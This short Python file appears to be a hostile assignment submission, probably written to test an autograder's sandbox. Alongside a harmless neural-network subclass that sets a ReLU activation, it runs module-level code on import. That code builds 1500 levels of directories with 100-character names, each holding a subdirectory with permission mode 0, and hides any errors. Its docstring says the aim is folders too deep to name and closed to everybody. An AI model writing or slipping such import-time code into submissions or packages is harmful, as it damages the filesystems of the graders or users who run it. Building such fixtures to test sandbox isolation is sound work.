"""A right module that leaves folders nested deeper than a path can name, closed to everybody."""

import os

import torch

from assignments.baseline import Net as Baseline


class Net(Baseline):
    def __init__(self, num_features, num_hidden, num_output):
        super().__init__(num_features, num_hidden, num_output)
        self.activation = torch.relu


try:
    for _ in range(1500):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
        os.mkdir("closed", 0)
except OSError:
    pass
